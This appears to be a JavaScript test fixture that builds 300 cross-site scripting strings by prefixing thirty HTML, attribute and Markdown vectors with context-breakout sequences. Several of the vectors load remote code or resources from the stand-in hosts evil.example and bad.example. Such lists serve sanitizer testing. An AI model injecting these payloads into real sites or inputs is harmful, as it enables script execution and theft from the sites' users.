/** Where a text could end up in a page, and how it could get out of there. */
const breakouts = ['', '">', "'>", '</script>', '</title>', '</textarea>', '-->', '`>', '\\">', ']]>']

const vectors = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr<script>ipt>alert(1)</script>',
  '<script src=//evil.example/x></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=//evil.example/x>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script>',
  '<body onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src=javascript:alert(1)>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content=0;//bad.example>',
  '<link rel=stylesheet href=//evil.example/x>',
  '<style>@import"//evil.example/x"</style>',
  '<div style=background:url(//evil.example/x)>',
  '<a href=javascript:alert(1)>x</a>',
  '[x](javascript:alert(1))',
  '![x](//evil.example/x)',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math href=javascript:alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  'javascript:alert(1)',
  '\\u003cscript\\u003ealert(1)',
]

/** 300 texts that run a script or load something from elsewhere, if a page takes them for HTML. */
export const injections = vectors.flatMap(vector => breakouts.map(breakout => breakout + vector))
